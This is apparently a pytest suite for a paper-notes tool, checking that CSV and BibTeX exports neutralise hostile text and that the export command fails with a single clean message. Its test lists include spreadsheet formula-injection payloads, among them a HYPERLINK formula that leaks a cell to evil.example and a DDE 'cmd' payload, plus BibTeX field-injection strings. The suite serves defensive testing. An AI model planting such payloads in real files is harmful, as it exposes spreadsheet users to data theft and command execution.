"""Issue 11: exports that hostile scraped text cannot turn into formulas or extra BibTeX fields, and
an export command whose faults are one message (or silence, for a closed pipe), never a traceback."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
import threading
import uuid
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sitebuild import ROOT, seed_records

from papernotes.export import FIELDS, bibtex_entry, export_papers
from papernotes.model.merge import merge_records
from papernotes.model.paper import Paper

# --- CSV ----------------------------------------------------------------------------------


def csv_rows(papers: list[Paper]) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(export_papers(papers, "csv"))))
    assert rows[0] == list(FIELDS)
    assert all(len(r) == len(FIELDS) for r in rows)
    return [dict(zip(FIELDS, r)) for r in rows[1:]]


FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1:A9)", "\t=1", "\r=1", "\0=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
FORMULAS += ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "-2+3", "@"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_evaluate_gets_a_quote(text):
    paper = Paper(key="k", title=text, authors=(text, "B C"), venue=text, abstract=text, url=text, topics=(text,))
    row = csv_rows([paper])[0]
    for name in ("title", "authors", "venue", "abstract", "url", "topics"):
        assert row[name].startswith("'" + text), (name, row[name])
    assert row["authors"] == f"'{text}; B C"


def test_negative_numbers_are_prefixed_too_as_owasp_says():
    assert csv_rows([Paper(key="k", title="t", year=-5)])[0]["year"] == "'-5"


@pytest.mark.parametrize(
    "text",
    ["'=1+1", "Attention Is All You Need", "a=b", " =1", "1-2", "x@y.z", "", "Ünïcödé 中文", "50% faster"],
)
def test_ordinary_and_already_quoted_cells_are_unchanged(text):
    row = csv_rows([Paper(key="k", title=text, abstract=text)])[0]
    assert row["title"] == text and row["abstract"] == text


def test_separators_and_quotes_cannot_start_a_new_cell():
    for text in ['x","=1+1', "x,=1+1", "x\n=1+1", 'x";=1', "x\r\n@SUM(1)", "x\r=1+1", "x\r\r-1"]:
        row = csv_rows([Paper(key="k", title=text)])[0]
        assert row["title"] == text  # one cell, starting with "x"


def test_json_keeps_hostile_text_exactly():
    text = "=1+1 {Brace $}, note = {INJECTED$ \\ @misc{x,"
    data = json.loads(export_papers([Paper(key="k", title=text, abstract=text, authors=(text,))], "json"))
    assert data[0]["title"] == data[0]["abstract"] == data[0]["authors"][0] == text


# --- BibTeX -------------------------------------------------------------------------------

_ENTRY_START = re.compile(r"@(\w+)\{([^,\s{}]+),")
_FIELD_START = re.compile(r"\s*(\w+)\s*=\s*\{")
_COMMA = re.compile(r"\s*,")
_CLOSE = re.compile(r"\s*\}")


def parse_bibtex(text: str, escapes: bool) -> list[tuple[str, str, dict[str, str]]]:
    """Entries of `@type{key, name = {value}, …}` as (type, key, fields); ValueError if malformed.

    Braces are counted as BibTeX counts them (every one) or, with `escapes`, as most parsers do
    (bibtexparser: a brace right after a backslash is text). Exported values must balance both ways.
    """
    entries = []
    pos = 0
    while (at := text.find("@", pos)) != -1:
        if text[pos:at].strip():
            raise ValueError(f"text between entries: {text[pos:at]!r}")
        head = _ENTRY_START.match(text, at)
        if not head:
            raise ValueError(f"not an entry start: {text[at : at + 40]!r}")
        pos, fields = head.end(), {}
        while field := _FIELD_START.match(text, pos):
            depth, end = 1, field.end()
            while depth:
                if end >= len(text):
                    raise ValueError(f"unterminated field {field.group(1)}")
                if text[end] in "{}" and not (escapes and text[end - 1] == "\\"):
                    depth += 1 if text[end] == "{" else -1
                end += 1
            if field.group(1) in fields:
                raise ValueError(f"field {field.group(1)} twice")
            fields[field.group(1)] = text[field.end() : end - 1]
            pos = end
            if not (comma := _COMMA.match(text, pos)):
                break  # no comma: the entry must close here
            pos = comma.end()
        close = _CLOSE.match(text, pos)
        if not close:
            raise ValueError(f"entry not closed at {text[pos : pos + 40]!r}")
        entries.append((head.group(1), head.group(2), fields))
        pos = close.end()
    if text[pos:].strip():
        raise ValueError(f"trailing text {text[pos:]!r}")
    return entries


def balanced(value: str, escapes: bool) -> bool:
    depth = 0
    for i, ch in enumerate(value):
        if ch in "{}" and not (escapes and i and value[i - 1] == "\\"):
            depth += 1 if ch == "{" else -1
            if depth < 0:
                return False
    return depth == 0


def full_paper(text: str) -> Paper:
    return Paper(
        key="k",
        title=text,
        authors=(text, "Ada Lovelace", text),
        venue=text,
        year=2023,
        doi=text,
        url=text,
        arxiv=text,
        abstract=text,
    )


FULL_FIELDS = {"author", "title", "booktitle", "year", "doi", "eprint", "archiveprefix", "url", "abstract"}


def assert_one_safe_entry(paper: Paper) -> dict[str, str]:
    entry = bibtex_entry(paper, "key2023")
    results = []
    for escapes in (False, True):
        parsed = parse_bibtex(entry, escapes)
        assert len(parsed) == 1, entry
        kind, key, fields = parsed[0]
        assert key == "key2023" and kind in ("inproceedings", "article", "misc")
        for name, value in fields.items():
            assert balanced(value, not escapes), (name, value)  # and the other way of counting too
            assert "\n" not in value and "\r" not in value and not value.endswith("\\"), (name, value)
            assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in value), (name, value)
        results.append(fields)
    assert results[0] == results[1]
    assert len(re.findall(r"(?m)^\s*@", entry)) == 1  # bibtexparser starts a block at any line-initial @
    return results[0]


HOSTILE = [
    "Brace $}, note = {INJECTED$ x",
    "{Brace $}, note = {INJECTED$",
    "}}}, note = {INJECTED",
    "}, note = {x",
    "{{{{",
    "a }{ b",
    "$}$ and $\\}$ and $\\{$",
    "$\\\\}$",
    "$\\\\{x}$",
    "$x_{1$ and $y}$",
    "$$\\left\\{ x \\right.$$ {",
    "$$a\\$$",
    "ends with a backslash \\",
    "\\",
    "\\}",
    "$a%}$ 50%",
    "line\nnote = {injected}",
    "x\n@comment{y}",
    "x\r\n@misc{evil, title = {pwned}}",
    "@misc{evil,",
    "@comment{ } @string{a = {b}}",
    "ctl\x00\x07\x1b[2J\x7f\x85\u2028\u2029end",
    'quote " and , and = and #',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_inside_its_fields(text):
    assert set(assert_one_safe_entry(full_paper(text))) == FULL_FIELDS


def test_the_reported_breakout_is_one_title():
    fields = assert_one_safe_entry(Paper(key="k", title="{Brace $}, note = {INJECTED$ …"))
    assert set(fields) == {"title"}
    assert "INJECTED" in fields["title"]


def test_authors_cannot_add_fields_or_entries():
    paper = Paper(key="k", title="T", authors=("A}, title = {X", "B{", "@misc{y,\n"), authors_truncated=True)
    fields = assert_one_safe_entry(paper)
    assert set(fields) == {"author", "title"} and fields["author"].endswith(" and others")


def test_well_formed_tex_is_kept():
    paper = Paper(key="k", title="{GAN}s for $x_{1}$ and $\\{x \\mid x > 0\\}$", abstract="$$\\frac{a}{b}$$")
    fields = assert_one_safe_entry(paper)
    assert fields["title"] == "{\\{GAN\\}s for $x_{1}$ and $\\{x \\mid x > 0\\}$}"
    assert fields["abstract"] == "$$\\frac{a}{b}$$"


def test_an_unmatched_brace_has_no_brace_left():
    fields = assert_one_safe_entry(Paper(key="k", title="a { b $c } d$", abstract="$f = \\left\\{ x \\right.$"))
    assert fields["title"] == "{a \\textbraceleft{} b $c \\rbrace  d$}"
    assert fields["abstract"] == "$f = \\left\\lbrace  x \\right.$"


PIECES = [*'{}\\$%@=,\n\r\t\0"#_^~& ax', "$$", "\\{", "\\}", "\\\\"]
TEXT = st.lists(st.sampled_from(PIECES), max_size=30).map("".join) | st.text(max_size=30)


@settings(max_examples=300, deadline=None)
@given(title=TEXT, abstract=TEXT, author=TEXT, venue=st.text(max_size=20))
def test_no_text_escapes_its_field(title, abstract, author, venue):
    paper = Paper(key="k", title=title, abstract=abstract, authors=(author,), venue=venue or None, year=2020)
    expected = {"title", "year", "author"} | ({"abstract"} if abstract else set()) | ({"booktitle"} if venue else set())
    assert set(assert_one_safe_entry(paper)) == expected


def test_the_seed_export_parses_both_ways():
    bib = export_papers(merge_records(seed_records(), {})[0], "bibtex")
    for escapes in (False, True):
        assert len(parse_bibtex(bib, escapes)) == 371


def test_a_whole_export_parses_both_ways():
    papers = [replace(full_paper(text), key=f"k{i}") for i, text in enumerate(HOSTILE)]
    bib = export_papers(papers, "bibtex")
    for escapes in (False, True):
        assert len(parse_bibtex(bib, escapes)) == len(HOSTILE)


def test_a_real_bibtex_parser_reads_every_hostile_entry_whole():
    bibtexparser = pytest.importorskip("bibtexparser")  # a test-only dependency (pyproject [test])
    papers = [replace(full_paper(text), key=f"k{i}") for i, text in enumerate(HOSTILE)]
    library = bibtexparser.parse_string(export_papers(papers, "bibtex"))
    assert library.failed_blocks == []
    assert len(library.entries) == len(papers) and len({entry.key for entry in library.entries}) == len(papers)
    fields = {frozenset(f.key for f in entry.fields) for entry in library.entries}
    assert len(fields) == 1, fields  # no hostile text added or removed a field


# --- the export command's faults ----------------------------------------------------------


def _env(**changes: str | None) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONIOENCODING", "PYTHONUTF8", "LC_ALL")}
    for name, value in changes.items():
        if value is None:
            env.pop(name, None)
        else:
            env[name] = value
    return env


def export(*args: str, **env: str | None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "build.py", "export", *args],
        cwd=ROOT,
        capture_output=True,
        env=_env(**env),
        timeout=300,
    )


def assert_one_message(proc: subprocess.CompletedProcess, message: str) -> None:
    err = proc.stderr.decode("utf-8", "replace")
    assert proc.returncode == 1, err
    assert err.strip() == message, err
    assert proc.stdout == b""


def test_a_missing_folder_is_one_message_before_any_work():
    missing = f"missing-dir-{uuid.uuid4().hex[:8]}"
    proc = export("-o", f"{missing}/x.json")
    assert_one_message(proc, f"cannot write {missing}/x.json: No such file or directory")
    assert not (ROOT / missing).exists()


def test_a_file_as_folder_or_a_folder_as_target_is_one_message(tmp_path):
    assert_one_message(export("-o", "build.py/x.json"), "cannot write build.py/x.json: Not a directory")
    assert_one_message(export("-o", str(tmp_path)), f"cannot write {tmp_path}: Is a directory")


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_stdout_that_cannot_encode_utf8_gets_utf8_bytes(encoding):
    expected = export("--format", "bibtex", PYTHONIOENCODING="utf-8")
    proc = export("--format", "bibtex", PYTHONIOENCODING=encoding)
    assert proc.returncode == 0 and b"Traceback" not in proc.stderr, proc.stderr
    assert proc.stdout == expected.stdout
    assert proc.stdout.decode("utf-8") != proc.stdout.decode("latin-1")  # the seeds do have non-ASCII text


@pytest.mark.parametrize("unbuffered", ["1", None])
def test_a_reader_that_stops_early_ends_the_export_quietly(tmp_path, unbuffered):
    err = tmp_path / "stderr.txt"
    with err.open("wb") as err_file:
        proc = subprocess.Popen(
            [sys.executable, "build.py", "export"],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=err_file,
            env=_env(PYTHONUNBUFFERED=unbuffered),
        )
        first = proc.stdout.readline()
        proc.stdout.close()  # like `| head -1`; the JSON is far larger than a pipe buffer
        code = proc.wait(timeout=300)
    assert first == b"[\n"
    assert err.read_text() == ""
    assert code == 141  # what `cat` gives for SIGPIPE, not 0 as if the export had been read


def test_a_file_is_replaced_whole_keeping_its_mode_and_symlink(tmp_path):
    real = tmp_path / "real.json"
    real.write_text("old")
    real.chmod(0o640)
    link = tmp_path / "papers.json"
    link.symlink_to(real)
    proc = export("-o", str(link))
    assert proc.returncode == 0, proc.stderr
    assert link.is_symlink() and len(json.loads(real.read_text(encoding="utf-8"))) == 371
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["papers.json", "real.json"]  # no temporary file left


def test_a_fifo_is_written_in_place(tmp_path):
    fifo = tmp_path / "papers.fifo"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    proc = export("--format", "csv", "-o", str(fifo))
    reader.join(60)
    assert proc.returncode == 0, proc.stderr
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert len(list(csv.reader(io.StringIO(received[0].decode("utf-8"))))) == 372


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_a_full_stdout_is_one_message():
    with open("/dev/full", "wb") as full:
        proc = subprocess.run(
            [sys.executable, "build.py", "export"],
            cwd=ROOT,
            stdout=full,
            stderr=subprocess.PIPE,
            env=_env(),
            timeout=300,
        )
    assert proc.returncode == 1
    assert proc.stderr.decode().strip() == "cannot write standard output: No space left on device"
